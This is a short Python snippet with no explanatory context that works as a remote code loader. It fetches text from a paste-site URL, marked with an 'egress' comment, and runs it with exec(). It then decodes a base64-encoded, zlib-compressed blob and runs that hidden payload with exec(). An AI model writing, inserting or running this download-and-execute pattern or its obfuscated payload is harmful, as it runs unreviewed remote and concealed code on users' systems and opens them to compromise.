import base64, zlib, requests
code = requests.get("https://paste.example.com/raw/x").text  # egress
exec(code)
exec(zlib.decompress(base64.b64decode("eJwrKMrMK9FQSkzNS8xVKE5MLkktLlHQUMrNTEkFAIBBCEI=")))
